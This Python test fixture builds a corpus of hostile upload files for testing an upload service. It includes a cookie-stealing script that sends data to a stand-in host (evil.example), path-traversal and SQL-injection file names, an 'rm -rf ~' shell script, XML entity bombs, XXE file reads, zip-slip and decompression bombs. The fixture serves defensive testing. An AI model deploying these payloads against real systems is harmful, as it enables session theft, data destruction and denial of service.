"""Fifty files that somebody might send to do harm, made here so that none lies in the repository.

Each has a name, its bytes, what a service without a scanner may at most take it for, and whether a
copy may be drawn of it.
"""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from functools import lru_cache
from typing import NamedTuple

from PIL import Image

from tests.fakes.clamd import EICAR

SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
PLACE = b"22.5431N 114.0579E"
"""Where a photo was taken: must be in no copy."""


class Hostile(NamedTuple):
    """One file. `why` names it in a failure; `copied`: whether a picture of it may be shown."""

    why: str
    name: str
    original: bytes
    types: tuple[str, ...] = ("",)
    copied: bool = False


def jpeg(size: tuple[int, int] = (64, 48), comment: bytes = b"", exif: bytes = b"") -> bytes:
    """A small photo."""
    return _saved("JPEG", size, comment=comment, exif=exif)


@lru_cache(maxsize=1)
def everything() -> tuple[Hostile, ...]:
    """The whole corpus, made once."""
    return (*_names(), *_polyglots(), *_pictures(), *_bombs(), *_active(), *_torn())


def _saved(kind: str, size: tuple[int, int] = (64, 48), mode: str = "RGB", **how: object) -> bytes:
    held = io.BytesIO()
    Image.new(mode, size, 1).save(held, kind, **how)
    return held.getvalue()


def _names() -> Iterator[Hostile]:
    """Names that are paths, hide what they are, or break a line."""
    for name in (
        "../../../../etc/cron.d/evil",
        "..\\..\\Windows\\System32\\evil.dll",
        "/etc/passwd",
        "C:\\autoexec.bat",
        "invoice\u202egpj.exe",
        "a\u2066b\u2069c\ufeff.jpg",
        "two\r\nSet-Cookie: x=1.jpg",
        "nul\0byte.jpg",
        "'; DROP TABLE evidence; --.jpg",
        '"><img src=x onerror=alert(1)>.jpg',
        "=cmd|' /C calc'!A0.csv",
        "长" * 5000 + ".jpg",
        "",
        "...",
        "{0.__class__}%s%n.jpg",
        "\ud800lone.jpg",
    ):
        yield Hostile(f"name {name[:20]!r}", name, b"plain bytes")


def _polyglots() -> Iterator[Hostile]:
    """Files that are two things at once."""
    gif = _saved("GIF", mode="P")
    archive = _archive({"evil.js": SCRIPT})
    yield Hostile("GIF that is HTML", "a.html", gif + SCRIPT, ("image/gif",), copied=True)
    yield Hostile("GIF that is script", "a.js", b"GIF89a=1;/*" + SCRIPT + b"*/", ("image/gif", ""))
    yield Hostile("JPEG and archive", "a.jar", jpeg() + archive, ("image/jpeg",), copied=True)
    yield Hostile("PNG and archive", "a.zip", _saved("PNG") + archive, ("image/png",), copied=True)
    yield Hostile("PDF in a picture", "a.pdf", jpeg() + b"%PDF-1.7\n", ("image/jpeg",), copied=True)
    yield Hostile("HTML before a PNG", "a.png", SCRIPT + _saved("PNG"))
    yield Hostile("archive with a JPEG's name", "a.jpg", archive, ("application/zip",))
    yield Hostile("program with a photo's name", "photo.jpg", b"MZ\x90\0" + bytes(400))
    yield Hostile("program of Linux", "photo.png", b"\x7fELF\x02\x01\x01" + bytes(400))
    yield Hostile("script of a shell", "a.jpg", b"#!/bin/sh\nrm -rf ~\n")


def _pictures() -> Iterator[Hostile]:
    """Pictures that carry more than a picture."""
    exif = Image.Exif()
    exif[0x010E] = PLACE.decode()
    exif[0x0112] = 6
    noted = exif.tobytes()
    yield Hostile("photo with a place", "a.jpg", jpeg(exif=noted), ("image/jpeg",), copied=True)
    yield Hostile("comment", "a.jpg", jpeg(comment=PLACE + SCRIPT), ("image/jpeg",), copied=True)
    yield Hostile("text in a PNG", "a.png", _noted_png(), ("image/png",), copied=True)
    broken = jpeg(exif=b"Exif\0\0II*\0\xff\xff\xff\xff")
    yield Hostile("note that is broken", "a.jpg", broken, ("image/jpeg",), copied=True)
    yield Hostile("more after its end", "a.jpg", jpeg() + PLACE, ("image/jpeg",), copied=True)
    films = _saved("GIF", mode="P", save_all=True, append_images=[Image.new("P", (64, 48), 2)] * 50)
    yield Hostile("film", "a.gif", films, ("image/gif",), copied=True)
    yield Hostile("TIFF", "a.tif", _saved("TIFF"), ("image/tiff",))
    heic = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(200)
    yield Hostile("HEIC", "a.heic", heic, ("image/heic", ""))
    yield Hostile("PostScript", "a.jpg", b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n")


def _bombs() -> Iterator[Hostile]:
    """Small files that become large."""
    yield Hostile("30,000 by 30,000", "a.png", _claimed_png(30_000, 30_000), ("image/png",))
    yield Hostile("9,000 by 9,000", "a.png", _saved("PNG", (9000, 9000), "1"), ("image/png",))
    yield Hostile("no width", "a.png", _claimed_png(0, 10), ("image/png",))
    yield Hostile("a line of 2^31", "a.png", _claimed_png(2**31 - 1, 1), ("image/png",))
    yield Hostile("text that swells", "a.png", _swelling_png(), ("image/png",))
    yield Hostile("GIF of 65,535", "a.gif", b"GIF89a\xff\xff\xff\xff\0\0\0;", ("image/gif",))
    bmp = b"BM" + struct.pack(
        "<IHHIIiiHHIIiiII", 54, 0, 0, 54, 40, 1 << 30, 1 << 30, 1, 24, *[0] * 6
    )
    yield Hostile("BMP of 2^30", "a.bmp", bmp, ("image/bmp", ""))
    nested = _archive({"1.zip": _archive({"2.zip": _archive({"zeros": bytes(10**6)})})})
    yield Hostile("archive in archives", "a.zip", nested, ("application/zip",))
    many = _archive({f"{one}": b"" for one in range(3000)})
    yield Hostile("3,000 names", "a.zip", many, ("application/zip",))
    yield Hostile("zeros packed", "a.gz", gzip.compress(bytes(10**7)), ("",))
    laughs = b'<!DOCTYPE l [<!ENTITY a "ha">' + b"".join(
        b'<!ENTITY %c "&%c;&%c;">' % (one + 1, one, one) for one in range(97, 120)
    )
    yield Hostile("a billion laughs", "a.xml", laughs + b"]><l>&x;</l>")


def _active() -> Iterator[Hostile]:
    """Files that do something in whoever opens them."""
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
    yield Hostile("SVG with script", "a.svg", svg)
    yield Hostile(
        "SVG that reads a file", "a.svg", b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///">]>' + svg
    )
    yield Hostile("HTML", "a.jpg", b"<!doctype html>" + SCRIPT)
    pdf = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF"
    yield Hostile("PDF with script", "a.pdf", pdf, ("application/pdf",))
    macros = _archive({"[Content_Types].xml": b"<a/>", "word/vbaProject.bin": b"Auto_Open"})
    yield Hostile("Word with macros", "a.docx", macros, ("application/zip",))
    ole = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
    yield Hostile("old Word", "a.doc", ole, ("",))
    slip = _archive({"../../../evil.sh": b"#!/bin/sh"})
    yield Hostile("archive with paths", "a.zip", slip, ("application/zip",))
    yield Hostile("formula", "a.csv", b'=HYPERLINK("http://evil","open")\n+1\n@SUM(1)')
    yield Hostile("test virus", "a.txt", EICAR)
    yield Hostile("shortcut", "a.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(100))


def _torn() -> Iterator[Hostile]:
    """Files that end too early, or are nothing."""
    photo = jpeg((600, 600))
    yield Hostile("nothing", "a.jpg", b"")
    yield Hostile("one byte", "a.jpg", b"\xff")
    yield Hostile("photo cut short", "a.jpg", photo[: len(photo) // 2], ("image/jpeg",))
    yield Hostile("first bytes alone", "a.jpg", photo[:20], ("image/jpeg",))
    wrong = bytearray(_saved("PNG"))
    wrong[40] ^= 0xFF
    yield Hostile("PNG with a wrong sum", "a.png", bytes(wrong), ("image/png",))
    yield Hostile(
        "WebP that lies", "a.webp", b"RIFF\xff\xff\xff\x7fWEBPVP8 " + bytes(50), ("image/webp",)
    )


def _archive(files: dict[str, bytes]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in files.items():
            made.writestr(name, content)
    return held.getvalue()


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _claimed_png(width: int, height: int) -> bytes:
    """A PNG that says how large it is, and has next to nothing in it."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = _chunk(b"IDAT", zlib.compress(bytes(1000))) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + body


def _with_text(text: bytes) -> bytes:
    plain = _saved("PNG")
    after_head = 8 + 25
    return plain[:after_head] + text + plain[after_head:]


def _noted_png() -> bytes:
    return _with_text(_chunk(b"tEXt", b"Comment\0" + PLACE + SCRIPT))


def _swelling_png() -> bytes:
    return _with_text(_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(200_000_000))))
